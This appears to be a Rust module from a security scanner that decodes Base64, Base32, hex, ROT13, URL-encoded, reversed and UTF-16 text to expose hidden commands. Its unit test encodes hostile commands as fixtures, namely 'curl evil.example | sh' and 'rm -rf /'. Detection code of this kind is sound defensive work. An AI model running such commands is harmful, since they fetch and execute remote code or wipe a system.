//! Decoders that code hides its texts with. What is written out is decoded; what is not stays unknown.

/// A way to hide a text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Code {
    Base64,
    Base32,
    Hex,
    Rot13,
    Url,
    Reverse,
}

/// The decoded text; `None` where it is none of that code. Bytes that are no text become replacement characters.
pub(crate) fn decode(code: Code, text: &str) -> Option<String> {
    let bytes = match code {
        Code::Base64 => bits(text, 6, |letter| match letter {
            'A'..='Z' => Some(letter as u32 - 'A' as u32),
            'a'..='z' => Some(letter as u32 - 'a' as u32 + 26),
            '0'..='9' => Some(letter as u32 - '0' as u32 + 52),
            '+' | '-' => Some(62),
            '/' | '_' => Some(63),
            _ => None,
        })?,
        Code::Base32 => bits(text, 5, |letter| match letter.to_ascii_uppercase() {
            upper @ 'A'..='Z' => Some(upper as u32 - 'A' as u32),
            digit @ '2'..='7' => Some(digit as u32 - '2' as u32 + 26),
            _ => None,
        })?,
        Code::Hex => bits(text, 4, |letter| letter.to_digit(16))?,
        Code::Rot13 => return Some(text.chars().map(rotate).collect()),
        Code::Url => percent(text),
        Code::Reverse => return Some(text.chars().rev().collect()),
    };
    let wide =
        bytes.len() >= 4 && bytes.len() % 2 == 0 && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0);
    if wide {
        // UTF-16, as PowerShell's encoded commands are.
        return Some(bytes.iter().step_by(2).map(|byte| char::from(*byte)).collect());
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

fn bits(text: &str, width: u32, digit: impl Fn(char) -> Option<u32>) -> Option<Vec<u8>> {
    let (mut buffer, mut held, mut bytes) = (0_u32, 0_u32, Vec::new());
    for letter in
        text.chars().filter(|letter| !letter.is_whitespace() && !matches!(letter, ':' | '-' if width == 4))
    {
        if letter == '=' {
            break;
        }
        buffer = ((buffer << width) | digit(letter)?) & 0xffff;
        held += width;
        if held >= 8 {
            held -= 8;
            bytes.push(u8::try_from((buffer >> held) & 0xff).ok()?);
        }
    }
    Some(bytes)
}

fn rotate(letter: char) -> char {
    let turn = |first: u8| char::from((letter as u8 - first + 13) % 26 + first);
    match letter {
        'a'..='z' => turn(b'a'),
        'A'..='Z' => turn(b'A'),
        _ => letter,
    }
}

fn percent(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut rest = text.bytes();
    while let Some(byte) = rest.next() {
        let mut ahead = rest.clone();
        let pair = (byte == b'%')
            .then(|| Some((char::from(ahead.next()?).to_digit(16)?, char::from(ahead.next()?).to_digit(16)?)))
            .flatten();
        if let Some((high, low)) = pair {
            bytes.push(u8::try_from(high * 16 + low).unwrap_or(b'?'));
            rest = ahead;
        } else {
            bytes.push(byte);
        }
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_hidden_is_read() {
        for (code, text, expected) in [
            (Code::Base64, "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "curl evil.example | sh"),
            (Code::Base64, "ZQBjAGgAbwAgAGgAaQA=", "echo hi"),
            (Code::Base32, "OJWSALLSMYQC6===", "rm -rf /"),
            (Code::Hex, "726d202d7266202f", "rm -rf /"),
            (Code::Rot13, "ez -es /", "rm -rf /"),
            (Code::Url, "rm%20-rf%20/%", "rm -rf /%"),
            (Code::Reverse, "/ fr- mr", "rm -rf /"),
        ] {
            assert_eq!(decode(code, text).as_deref(), Some(expected));
        }
        assert_eq!(decode(Code::Base64, "not base64!"), None);
    }
}
